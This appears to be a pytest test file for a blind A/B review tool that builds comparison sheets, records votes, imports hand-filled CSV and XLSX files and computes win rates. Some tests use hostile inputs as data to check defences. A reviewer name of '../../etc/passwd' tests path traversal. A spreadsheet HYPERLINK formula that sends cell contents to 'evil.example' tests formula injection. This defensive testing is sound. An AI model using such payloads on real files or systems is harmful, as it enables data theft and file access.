"""Blind sheet, votes, hand-filled imports and unblinding, on hand-made eval outputs."""

from __future__ import annotations

import csv
import json

import pytest

from tests.compare.fixtures import make_run
from tunesmith.compare import build_sheet, cast_vote, import_sheet, unblind, wilson_interval
from tunesmith.compare.sheet import COLUMNS, read_key, read_sheet
from tunesmith.compare.unblind import cohen_kappa
from tunesmith.compare.votes import VoteError, all_votes
from tunesmith.data.schema import DataError
from tunesmith.runs import COMPARE_DIR, SHEET_CSV_FILE, SHEET_XLSX_FILE, UNBLIND_FILE


@pytest.mark.parametrize(
    "k,n,low,high",
    # Newcombe (1998), "Two-sided confidence intervals for the single proportion", Table I, method 3
    # (Wilson score, no continuity correction); and 8/10 from Wilson (1927)'s formula by hand.
    [
        (81, 263, 0.2553, 0.3662),
        (15, 148, 0.0624, 0.1605),
        (0, 20, 0.0, 0.1611),
        (1, 29, 0.0061, 0.1718),
        (8, 10, 0.4902, 0.9433),
    ],
)
def test_wilson_interval_matches_published_values(k, n, low, high):
    lo, hi = wilson_interval(k, n)
    assert lo == pytest.approx(low, abs=6e-5) and hi == pytest.approx(high, abs=6e-5)


def test_wilson_interval_of_nothing_is_none():
    assert wilson_interval(0, 0) is None


def test_cohen_kappa_known_value_and_undefined_cases():
    # 2x2 table [[20, 5], [10, 15]]: po = 0.7, pe = 0.5 -> kappa = 0.4 (Wikipedia's worked example).
    a = ["y"] * 25 + ["n"] * 25
    b = ["y"] * 20 + ["n"] * 5 + ["y"] * 10 + ["n"] * 15
    assert cohen_kappa(a, b) == pytest.approx(0.4)
    assert cohen_kappa(["win"] * 3, ["win"] * 3) is None  # one label throughout: chance agreement is 1
    assert cohen_kappa(["win"], ["loss"]) is None


def test_sheet_is_blind_seeded_and_keyed(tmp_path):
    run = make_run(tmp_path / "run", n=30)
    sheet = build_sheet(run, n=20, seed=3)
    assert (sheet.items, sheet.available, sheet.against) == (20, 30, "base")
    rows = read_sheet(run)
    key = read_key(run)
    assert [r["item"] for r in rows] == sorted(key["items"])
    ids = [key["items"][r["item"]]["id"] for r in rows]
    assert len(set(ids)) == 20
    sides = [key["items"][r["item"]]["A"] for r in rows]
    assert 0 < sides.count("tuned") < 20, "the tuned output must not always sit on the same side"
    for r in rows:  # the sheet holds outputs, never which model wrote them
        assert set(r) == {"sheet_id", "item", "input", "output_a", "output_b"}
        a_is_tuned = key["items"][r["item"]]["A"] == "tuned"
        assert ("-- tuned" in r["output_a"] or "from tuned" in r["output_a"]) == a_is_tuned
    assert key["items"]["001"]["stratum"] in {"count", "filter", "join"}
    # Same seed, same sheet; another seed, another one.
    assert build_sheet(run, n=20, seed=3).sheet_id == sheet.sheet_id
    assert build_sheet(run, n=20, seed=4).sheet_id != sheet.sheet_id


def test_csv_and_xlsx_have_the_guide_columns(tmp_path):
    from openpyxl import load_workbook

    run = make_run(tmp_path / "run", n=5)
    build_sheet(run, n=5)
    with open(run / COMPARE_DIR / SHEET_CSV_FILE, encoding="utf-8-sig", newline="") as f:
        table = list(csv.reader(f))
    assert table[0] == COLUMNS and len(table) == 6
    assert "How many singers" in table[1][1] and "[system]" in table[1][1]
    ws = load_workbook(run / COMPARE_DIR / SHEET_XLSX_FILE).active
    assert [c.value for c in ws[1]] == COLUMNS
    assert ws.max_row == 6
    assert [c.value for c in ws[2]][:4] == table[1][:4]


def test_against_another_run_matches_by_example_id(tmp_path):
    a = make_run(tmp_path / "a", n=10, full=False)
    b = make_run(tmp_path / "b", n=6, full=False)
    sheet = build_sheet(a, against=b, n=50)
    assert (sheet.items, sheet.against) == (6, "b")
    with pytest.raises(DataError, match="not `base` and not a run directory"):
        build_sheet(a, against=tmp_path / "missing")


def test_missing_eval_outputs_say_what_to_run(tmp_path):
    with pytest.raises(DataError, match="tunesmith eval"):
        build_sheet(tmp_path)


def test_rebuilding_a_voted_sheet_needs_force_and_keeps_old_votes(tmp_path):
    run = make_run(tmp_path / "run", n=10)
    sheet = build_sheet(run, n=5, seed=0)
    cast_vote(run, "ann", "001", "A", items={"001"}, sheet_id=sheet.sheet_id)
    assert build_sheet(run, n=5, seed=0).sheet_id == sheet.sheet_id  # same sheet: votes stay valid
    with pytest.raises(DataError, match="--force"):
        build_sheet(run, n=5, seed=1)
    build_sheet(run, n=5, seed=1, force=True)
    assert all_votes(run) == {}
    moved = [p for p in (run / COMPARE_DIR).iterdir() if p.name.startswith("votes.")]
    assert len(moved) == 1 and (moved[0] / "ann.json").is_file()


def test_votes_reject_unknown_items_choices_and_names(tmp_path):
    run = make_run(tmp_path / "run", n=4)
    build_sheet(run, n=4)
    items = {"001", "002"}
    with pytest.raises(VoteError, match="unknown item"):
        cast_vote(run, "ann", "999", "A", items=items, sheet_id="x")
    with pytest.raises(VoteError, match="choice"):
        cast_vote(run, "ann", "001", "C", items=items, sheet_id="x")
    with pytest.raises(VoteError, match="reviewer name"):
        cast_vote(run, "../../etc/passwd", "001", "A", items=items, sheet_id="x")
    cast_vote(run, "Ann Lee", "001", "A", items=items, sheet_id="x")
    cast_vote(run, "Ann Lee", "001", "B", "changed my mind", items=items, sheet_id="x")
    assert all_votes(run) == {
        "Ann Lee": {
            "001": {
                "choice": "B",
                "note": "changed my mind",
                "at": pytest.approx(all_votes(run)["Ann Lee"]["001"]["at"]),
            }
        }
    }


def _vote_truthfully(run, reviewer, prefer_tuned_unless=lambda i: False, tie_items=()):
    """Vote for the tuned side on every item, except the ones the caller names."""
    key = read_key(run)
    expected = {"win": 0, "loss": 0, "tie": 0}
    for item, k in key["items"].items():
        tuned_side = "A" if k["A"] == "tuned" else "B"
        other_side = "B" if tuned_side == "A" else "A"
        if item in tie_items:
            choice, result = "tie", "tie"
        elif prefer_tuned_unless(item):
            choice, result = other_side, "loss"
        else:
            choice, result = tuned_side, "win"
        cast_vote(run, reviewer, item, choice, items=set(key["items"]), sheet_id=key["sheet_id"])
        expected[result] += 1
    return expected


def test_unblind_counts_per_reviewer_stratum_and_agreements(tmp_path):
    run = make_run(tmp_path / "run", n=12)
    build_sheet(run, n=12, seed=7)
    e1 = _vote_truthfully(run, "ann", prefer_tuned_unless=lambda item: item in {"003", "004"}, tie_items={"005"})
    e2 = _vote_truthfully(run, "bob", prefer_tuned_unless=lambda item: item in {"003"})
    r = unblind(run)
    assert (r.per_reviewer["ann"].wins, r.per_reviewer["ann"].losses, r.per_reviewer["ann"].ties) == (
        e1["win"],
        e1["loss"],
        e1["tie"],
    )
    assert (r.overall.wins, r.overall.losses, r.overall.ties) == (e1["win"] + e2["win"], e1["loss"] + e2["loss"], 1)
    decisive = r.overall.wins + r.overall.losses
    assert r.overall.win_rate == pytest.approx(r.overall.wins / decisive)
    assert r.overall.ci95 == pytest.approx(wilson_interval(r.overall.wins, decisive))
    assert set(r.per_stratum) == {"count", "filter", "join"}
    assert sum(t.wins + t.losses + t.ties for t in r.per_stratum.values()) == 24
    (pair,) = r.reviewer_agreement
    assert pair["items"] == 12 and pair["agreement"] == pytest.approx(10 / 12)  # they differ on 004 and 005
    # The fixture's judge says win exactly where the tuned SQL is correct (i % 4 != 0).
    key = read_key(run)
    judge_win = {item: int(k["id"].split("-")[1]) % 4 != 0 for item, k in key["items"].items()}
    agree = 0
    for exceptions, ties in (({"003", "004"}, {"005"}), ({"003"}, set())):
        for item in key["items"]:
            human = "tie" if item in ties else ("loss" if item in exceptions else "win")
            agree += human == ("win" if judge_win[item] else "loss")
    assert r.judge_agreement["votes"] == 24
    assert r.judge_agreement["agreement"] == pytest.approx(agree / 24)
    saved = json.loads((run / COMPARE_DIR / UNBLIND_FILE).read_text())
    assert saved["overall"]["wins"] == r.overall.wins


def test_hand_filled_csv_counts_the_same_as_page_votes(tmp_path):
    run = make_run(tmp_path / "run", n=8)
    build_sheet(run, n=8, seed=1)
    key = read_key(run)
    path = run / COMPARE_DIR / SHEET_CSV_FILE
    with open(path, encoding="utf-8-sig", newline="") as f:
        table = list(csv.reader(f))
    # A person prefers the tuned side everywhere except item 002 (tie, typed "="), skips 003, leaves 004 blank.
    expected_wins = 0
    for row in table[1:]:
        item = row[0]
        tuned_side = "A" if key["items"][item]["A"] == "tuned" else "B"
        row[4] = {"002": "=", "003": "skip", "004": ""}.get(item, tuned_side.lower())
        row[5] = "note " + item
        expected_wins += item not in {"002", "003", "004"}
        row[0] = str(int(item))  # a spreadsheet turns 001 into 1
    filled = tmp_path / "Carol.csv"
    with open(filled, "w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(table)
    assert import_sheet(run, filled) == ("Carol", 7)
    r = unblind(run)
    assert (r.overall.wins, r.overall.losses, r.overall.ties, r.overall.skips) == (expected_wins, 0, 1, 1)
    assert r.complete == {"Carol": 7}
    assert all_votes(run)["Carol"]["001"]["note"] == "note 001"


def test_hand_filled_xlsx_imports(tmp_path):
    from openpyxl import load_workbook

    run = make_run(tmp_path / "run", n=4)
    build_sheet(run, n=4, seed=2)
    key = read_key(run)
    wb = load_workbook(run / COMPARE_DIR / SHEET_XLSX_FILE)
    ws = wb.active
    for row in ws.iter_rows(min_row=2):
        other = "B" if key["items"][row[0].value]["A"] == "tuned" else "A"
        row[4].value = other
    filled = tmp_path / "dave.xlsx"
    wb.save(filled)
    assert import_sheet(run, filled, reviewer="Dave") == ("Dave", 4)
    r = unblind(run)
    assert (r.overall.wins, r.overall.losses) == (0, 4)
    assert r.overall.ci95 == pytest.approx(wilson_interval(0, 4))


def test_import_refuses_a_copy_of_another_sheet_and_bad_cells(tmp_path):
    run = make_run(tmp_path / "run", n=6)
    build_sheet(run, n=6, seed=1)
    old = (run / COMPARE_DIR / SHEET_CSV_FILE).read_text(encoding="utf-8-sig")
    build_sheet(run, n=6, seed=2)
    stale = tmp_path / "stale.csv"
    stale.write_text(old.replace(",,\n", ",A,\n", 1), encoding="utf-8")
    with pytest.raises(DataError, match=r"stale.csv:2:Output A: differs"):
        import_sheet(run, stale)
    bad = tmp_path / "bad.csv"  # read_text gives universal newlines: rows end in ",,\n"
    current = (run / COMPARE_DIR / SHEET_CSV_FILE).read_text(encoding="utf-8-sig")
    bad.write_text(current.replace(",,\n", ",maybe,\n", 1), encoding="utf-8")
    with pytest.raises(DataError, match=r"bad.csv:2:Preference: 'maybe'"):
        import_sheet(run, bad)
    with pytest.raises(DataError, match="no 'Preference' column"):
        (tmp_path / "x.csv").write_text("Item,Input\n001,hi\n", encoding="utf-8")
        import_sheet(run, tmp_path / "x.csv")


def test_outputs_that_look_like_formulas_stay_text_and_still_import(tmp_path):
    from openpyxl import load_workbook

    run = make_run(tmp_path / "run", n=3)
    attack = '=HYPERLINK("http://evil.example/?"&B2,"click")'
    for name in ("tuned.jsonl", "base.jsonl"):
        path = run / "eval" / name
        rows = [json.loads(x) for x in path.read_text().splitlines()]
        for r in rows:
            r["output"] = attack if name == "tuned.jsonl" else "-1 row"
        path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    build_sheet(run, n=3)
    ws = load_workbook(run / COMPARE_DIR / SHEET_XLSX_FILE).active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row[2:4]]
    assert {c.value for c in cells} == {attack, "-1 row"} and {c.data_type for c in cells} == {"s"}
    with open(run / COMPARE_DIR / SHEET_CSV_FILE, encoding="utf-8-sig", newline="") as f:
        table = list(csv.reader(f))
    assert {c for row in table[1:] for c in row[2:4]} == {"'" + attack, "'-1 row"}
    for row in table[1:]:
        row[4] = "tie"
    filled = tmp_path / "fay.csv"
    with open(filled, "w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(table)
    assert import_sheet(run, filled) == ("fay", 3)
